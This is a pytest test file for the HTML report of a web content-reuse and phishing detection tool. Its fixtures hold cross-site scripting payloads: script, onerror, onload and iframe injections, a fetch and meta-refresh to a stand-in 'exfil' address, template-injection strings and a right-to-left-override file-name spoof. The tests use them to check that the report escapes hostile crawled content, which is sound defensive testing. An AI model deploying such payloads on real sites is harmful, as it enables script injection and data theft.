"""The report: it opens anywhere and asks nobody, shows what the tables say, and nothing of the crawl runs in it."""

import csv
import json
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from browser import Visit, visiting
from command import hpcreuse, summary, table
from playwright.sync_api import Browser

from hpcreuse.kernels.fixed import to_fixed
from hpcreuse.kernels.ragged import Ragged
from hpcreuse.page.options import DigestOptions
from hpcreuse.report.wording import excerpt
from hpcreuse.store import result
from hpcreuse.store.counts import Histogram
from hpcreuse.store.labels import create_labels
from hpcreuse.store.shard import Counted

EXFIL = "http://127.0.0.1:9/exfil"
ATTACKS = [
    f'<p><script>alert("chunk"); fetch("{EXFIL}")</script>copied copied copied copied copied</p>',
    f'<p><img src="{EXFIL}.gif" onerror="alert(1)"></style></pre></main><script>alert("out")</script></p>',
    f'<p style="background: url({EXFIL}.png)"><svg onload=alert(2)><iframe srcdoc="<script>alert(3)</script>"></p>',
    f'<p>{{{{ 7 * 7 }}}}{{% for x in y %}} \u202e gnp.exe \u2066 <meta http-equiv=refresh content="0;url={EXFIL}"></p>',
]
HOSTILE_URL = 'http://evil.example/"><script>alert("url")</script>/<b onmouseover=alert(4)>/{{ 7 * 7 }}/'


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small hostile crawl through all methods."""
    folder = tmp_path_factory.mktemp("hostile")
    rng = np.random.default_rng(7)
    words = ["".join(rng.choice(list("abcdefghij"), 6)) for _ in range(400)]
    stories = [[" ".join(rng.choice(words, 30)) for _ in range(4)] for _ in range(12)]
    pages = [(f"{HOSTILE_URL}{number}.html", [*ATTACKS, f"<p>own {number}</p>"]) for number in range(6)]
    for number, story in enumerate(stories):
        text = [f"<p>{part}</p>" for part in story]
        pages.append((f"http://paper.example/{number}.html", text))
        pages.append((f"http://copy.example/{number % 3}/{number}.html", [f"<p>{number}</p>", *text]))
    for number in range(2):
        alert = f"<p>{' '.join(f'<script>alert({n})</script>' for n in range(3))}</p>"
        patches = [f"<p>{stories[number * 6 + n][1]}</p>" for n in range(6)]
        pages.append((f"http://quilt.example/<script>{number}.html", [*patches, alert]))
    pages += [
        (f"http://exact.example/{n}.html", ["<p>same here</p>", f"<p>{' '.join(words[:80])}</p>"]) for n in range(3)
    ]
    lines = [json.dumps({"url": url, "html": f"<html><body>{''.join(text)}"}) for url, text in pages]
    (folder / "crawl.jsonl").write_text("\n".join(lines))
    suspect = {"url": 'http://phish.test/"><script>alert(5)</script>', "html": f"<html><body>{ATTACKS[0]}<p>end</p>"}
    (folder / "suspects.jsonl").write_text(json.dumps(suspect))
    (folder / "truth.tsv").write_text(f"{suspect['url']}\tphish\n")
    (folder / "synonyms.tsv").write_text(f"{words[1]}\t{words[2]}|{words[3]}\n{words[4]}\t{words[5]}\n")
    for line in (
        "hash crawl.jsonl --text --out run",
        "discover run --objects file --threshold 1 --out files.h5",
        "discover run --threshold 3 --out labels.h5",
        "detect run --labels labels.h5 --out result",
        "quilt run -k 3 --out quilts",
        "imatch run --out near",
        "spin run --synonyms synonyms.tsv --min-words 20 --language any --out spun",
        "label crawl.jsonl --mode dom --min-length 26 --out originals.h5",
        "phish suspects.jsonl --labels originals.h5 --truth truth.tsv --out phish",
        "study sweep run --out sweep",
    ):
        hpcreuse(*line.split(), cwd=folder)
    return folder


@pytest.fixture(scope="module")
def made(found: Path) -> dict[str, Any]:
    """The report of all of it."""
    line = "report run labels.h5 files.h5 result quilts near spun phish sweep --out report --json --title"
    done = hpcreuse(*line.split(), 'Of <script>alert("title")</script>', cwd=found)
    summed: dict[str, Any] = json.loads(done.stdout)
    return summed


@pytest.fixture
def seen(browser: Browser, found: Path, made: dict[str, Any]) -> Iterator[Visit]:
    """The report in a browser, opened from the file."""
    with visiting(browser) as visit:
        visit.page.goto((found / made["page"]).as_uri())
        yield visit


def test_it_opens_from_a_file_without_errors_or_requests(seen: Visit) -> None:
    seen.page.wait_for_timeout(200)
    assert seen.errors == []
    assert seen.requests_beyond("data:") == [seen.page.url]
    assert "'unsafe" not in seen.page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content")


def test_nothing_of_the_crawl_runs(seen: Visit) -> None:
    for attack in seen.page.locator("pre, td, h4, .patches").all():
        attack.scroll_into_view_if_needed()
    seen.page.locator("bdi", has_text="evil.example").first.hover()
    seen.page.wait_for_timeout(200)
    assert seen.dialogs == []
    for element in ("script", "iframe", "img", "object", "form", "table b", "[onmouseover]", "[onload]", "[style]"):
        assert seen.page.locator(element).count() == 0, element
    text = seen.page.locator("body").inner_text()
    assert 'alert("chunk")' in text and '"><script>alert("url")</script>' in text and "{{ 7 * 7 }}" in text
    assert "\u202e" not in text
    assert seen.page.title() == 'Of <script>alert("title")</script>'


def test_figures_are_there_and_ready_for_a_paper(seen: Visit, found: Path, made: dict[str, Any]) -> None:
    drawn = seen.page.locator("figure")
    names = {name.removeprefix("figure-") for name in drawn.evaluate_all("all => all.map(one => one.id)")}
    assert (
        names
        == set(made["figures"])
        >= {
            *(
                "frequency-chunks",
                "frequency-files-2",
                "badness",
                "ratios",
                "prefix-lengths",
                "quilt-sources",
                "near-sizes",
            ),
            *("spun-filters", "spun-kinds", "spun-sizes", "times", "study-sweep"),
        }
    )
    for box in (figure.locator("svg").bounding_box() for figure in drawn.all()):
        assert box and box["width"] > 200 and box["height"] > 60
    folder = found / "report" / "figures"
    for name in names:
        starts = [(folder / f"{name}.{kind}").read_bytes()[:5] for kind in ("svg", "png", "pdf")]
        assert starts == [b"<?xml", b"\x89PNG\r", b"%PDF-"]
    for link in seen.page.locator("a.file").evaluate_all("all => all.map(one => one.getAttribute('href'))"):
        assert (found / "report" / link).is_file()


def test_figures_and_text_are_legible_in_the_dark(browser: Browser, found: Path, made: dict[str, Any]) -> None:
    brightness = {}
    for scheme in ("light", "dark"):
        with visiting(browser, color_scheme=scheme) as visit:
            visit.page.goto((found / made["page"]).as_uri())
            for what, selector, style in (
                ("ink", "figure svg", "fill"),
                ("paper", "figure", "backgroundColor"),
                ("text", "td", "color"),
            ):
                colour = visit.page.locator(selector).first.evaluate(f"one => getComputedStyle(one).{style}")
                numbers = colour.removeprefix("rgb(").rstrip(")").split(",")
                brightness[scheme, what] = sum(map(int, numbers)) / 3
    for scheme, paper_is_brighter in (("light", True), ("dark", False)):
        for what in ("ink", "text"):
            distance = brightness[scheme, "paper"] - brightness[scheme, what]
            assert abs(distance) > 120 and (distance > 0) == paper_is_brighter


def test_it_fits_narrow_screens_and_paper(browser: Browser, found: Path, made: dict[str, Any], tmp_path: Path) -> None:
    with visiting(browser, viewport={"width": 360, "height": 700}) as visit:
        visit.page.goto((found / made["page"]).as_uri())
        assert visit.page.evaluate("document.documentElement.scrollWidth") <= 360
        visit.page.emulate_media(media="print", color_scheme="dark")
        assert visit.page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
        visit.page.pdf(path=tmp_path / "print.pdf")
    assert (tmp_path / "print.pdf").stat().st_size > 50_000


def rows_of(found: Path, name: str) -> list[dict[str, str]]:
    with (found / "report" / "tables" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_tables_say_what_the_results_say(found: Path, made: dict[str, Any]) -> None:
    neighborhoods = table(found / "result", "neighborhoods")
    bins = Counter(min(39, int(row["badness"] * 40)) for row in neighborhoods)
    assert [int(row["number"]) for row in rows_of(found, "badness")] == [bins[n] for n in range(40)]
    depths = Counter((row["depth"], row["target"]) for row in neighborhoods)
    for row in rows_of(found, "prefix-lengths"):
        depth = int(row["depth"])
        assert int(row["bad"]) == depths[depth, True]
        assert int(row["neighborhoods"]) == depths[depth, True] + depths[depth, False]
    bad = sorted((row for row in neighborhoods if row["target"]), key=lambda row: (-row["badness"], -row["bad"]))
    assert [row["badness"] for row in bad] == [
        float(row["badness"]) for row in rows_of(found, "neighborhoods-by-badness")
    ]
    counts = sorted((row["count"] for row in table(found / "labels.h5", "labels")), reverse=True)
    assert [int(row["count"]) for row in rows_of(found, "labels")] == counts
    assert {row["url"] for row in rows_of(found, "quilts")} == {row["url"] for row in table(found / "quilts", "quilts")}
    sizes = Counter(Counter(row["cluster"] for row in table(found / "near", "clusters")).values())
    assert {int(row["pages"]): int(row["clusters"]) for row in rows_of(found, "near-sizes")} == sizes
    kinds = Counter(row["kind"] for row in table(found / "spun", "pairs"))
    assert {row["kind"]: int(row["pairs"]) for row in rows_of(found, "spun-kinds")} == {
        kind: kinds[kind] for kind in ("spun", "near", "exact")
    }
    assert kinds["exact"] == 2


def test_worst_neighborhoods_come_with_pages_and_content(seen: Visit) -> None:
    text = seen.page.locator("#neighborhoods").inner_text()
    assert "evil.example/" in text and "0.html" in text and "alert(" in text
    assert "quilt.example/" in seen.page.locator("#quilts").inner_text()
    assert seen.page.locator("#quilts mark").count() >= 4
    phish = seen.page.locator("#phish").inner_text()
    assert 'http://phish.test/"><script>alert(5)</script>' in phish and "evil.example" in phish
    assert "100.0 % found" in phish


def test_it_says_what_was_run_and_how_long_it_took(seen: Visit) -> None:
    for summary_line in seen.page.locator("#provenance summary").all():
        summary_line.click()
    text = seen.page.locator("#provenance").inner_text()
    assert "hpcreuse detect run --labels labels.h5 --out result" in text and "crawl.jsonl" in text
    assert {"hash", "discover", "detect", "quilt", "imatch", "spin", "study sweep"} <= set(
        seen.page.locator("#times td:first-child").all_inner_texts()
    )
    assert "najork2012quilted" in seen.page.locator("#citation").inner_text()


def test_a_million_rows_give_a_small_page(tmp_path: Path, browser: Browser) -> None:
    rows = 1_000_000
    write_large_result(tmp_path / "large", rows)
    done = summary("report", tmp_path / "large", "--out", tmp_path / "report")
    assert done["page_bytes"] < 400_000
    written = rows_of(tmp_path, "neighborhoods-by-bad-chunks")
    assert [int(row["bad"]) for row in written[:3]] == [rows, rows - 1, rows - 2]
    assert sum(int(row["number"]) for row in rows_of(tmp_path, "badness")) == rows
    assert all(path.stat().st_size < 1_000_000 for path in (tmp_path / "report").rglob("*") if path.is_file())
    with visiting(browser) as visit:
        visit.page.goto((tmp_path / "report" / "index.html").as_uri())
        assert visit.errors == []
        assert f"s{rows - 1:07d}.example/" in visit.page.locator("#neighborhoods").inner_text()


def write_large_result(path: Path, rows: int) -> None:
    """Write a result of so many files, each a site of its own, with the functions that `detect` writes with."""
    scratch = result.begin(path)
    counts = np.arange(1, rows + 1)
    sites = [f"s{n:07d}.example/".encode() for n in range(rows)]
    badness = counts / rows
    matches = Ragged.from_lengths(np.zeros(0, result.MATCH), np.zeros(rows, np.int64))
    files = result.FileRows(
        Ragged.from_strings([b"http://" + site for site in sites]), counts, np.full(rows, 2 * rows), counts, matches
    )
    result.write_rows(scratch / "files" / "part-00000.h5", files)
    one = np.ones(rows, np.int64)
    worst = result.NeighborhoodRows(Ragged.from_strings(sites), one, 2 * rows * one, counts, badness)
    result.write_rows(scratch / "neighborhoods" / "part-00000.h5", worst)
    none = np.empty(0, np.int64)
    empty = result.NeighborhoodRows(Ragged.from_strings([]), none, none, none, none.astype(float))
    result.write_rows(scratch / "neighborhoods" / "borders.h5", empty)
    digests = np.random.default_rng(1).integers(0, 256, (rows, 20), np.uint8)
    digests = digests[np.lexsort(digests.T[::-1])]
    options = DigestOptions().record()
    header = {"digest_options": options, "objects": "chunk", "method": "blind", "threshold": 0}
    histogram = Histogram(counts, np.ones(rows, np.int64))
    with create_labels(scratch / "labels.h5", header, rows, 20, histogram) as writer:
        writer.append(Counted(digests, counts, counts))
    summed = {
        "objects": "chunk",
        "files": rows,
        "chunks": 2 * rows * rows,
        "bad_chunks": int(counts.sum()),
        "labels": rows,
        "file_mean": 0.5,
        "file_deviation": 0.1,
        "file_threshold": 0.4,
        "target_files": 9,
        "neighborhoods": rows,
        "neighborhood_mean": 0.5,
        "neighborhood_deviation": 0.3,
        "neighborhood_threshold": 0.8,
        "bad_neighborhoods": rows // 5,
    }
    fixed = {name: int(to_fixed(np.array([bar]))[0]) for name, bar in (("file", 0.4), ("neighborhood", 0.8))}
    header = {"run": "gone", "objects": "chunk", "badness": "mean", "sigma": 1.0, "min_chunks": 0}
    result.finish(path, {**header, **{f"{name}_threshold_fixed": bar for name, bar in fixed.items()}}, summed)


def test_what_a_run_has_counted_is_shown_without_labels_of_its_own(tmp_path: Path, found: Path) -> None:
    alone = summary("report", found / "run", "--out", tmp_path / "run")
    with_labels = summary("report", found / "run", found / "labels.h5", "--out", tmp_path / "labels")
    for made in (alone, with_labels):
        assert {"frequency-chunks", "frequency-files"} <= set(made["figures"])


def test_a_crawl_of_nothing_is_reported_without_complaint(tmp_path: Path) -> None:
    (tmp_path / "empty.warc").write_bytes(b"")
    hpcreuse("hash", "empty.warc", "--out", "run", cwd=tmp_path)
    hpcreuse("discover", "run", "--threshold", "1", "--out", "labels.h5", cwd=tmp_path)
    hpcreuse("detect", "run", "--labels", "labels.h5", "--out", "result", cwd=tmp_path)
    made = hpcreuse("report", "run", "labels.h5", "result", "--out", "report", "--progress", "0", cwd=tmp_path)
    assert made.stderr == ""
    assert "()" not in (tmp_path / "report" / "index.html").read_text().partition("records skipped")[2][:60]


def test_chunks_that_differ_in_line_ends_alone_look_different() -> None:
    shown = [excerpt(b"<p>a" + end + b"b") for end in (b"\n", b"\r\n", b"\t", b" ", b"  ")]
    assert shown == ["<p>a\\n\nb", "<p>a\\r\\n\nb", "<p>a\\tb", "<p>a b", "<p>a  b"]


def test_what_is_no_output_of_ours_is_refused(tmp_path: Path, found: Path) -> None:
    (tmp_path / "letter.txt").write_text("dear reader")
    done = hpcreuse("report", tmp_path / "letter.txt", "--out", tmp_path / "report", check=False)
    assert done.returncode == 1 and "runs, labels, results and studies" in done.stderr
    assert not (tmp_path / "report").exists()
    done = hpcreuse("report", found / "result", "--out", tmp_path, check=False)
    assert done.returncode == 1 and "not empty and no earlier report" in done.stderr
    assert [path.name for path in tmp_path.iterdir()] == ["letter.txt"]


def test_a_report_made_again_keeps_nothing_of_the_earlier_one(tmp_path: Path, found: Path) -> None:
    hpcreuse("report", found / "near", "--out", tmp_path / "report")
    assert (tmp_path / "report" / "figures" / "near-sizes.pdf").exists()
    hpcreuse("report", found / "quilts", "--out", tmp_path / "report")
    assert not (tmp_path / "report" / "figures" / "near-sizes.pdf").exists()
    page = (tmp_path / "report" / "index.html").read_text()
    assert "Quilted pages" in page and "Near duplicates" not in page
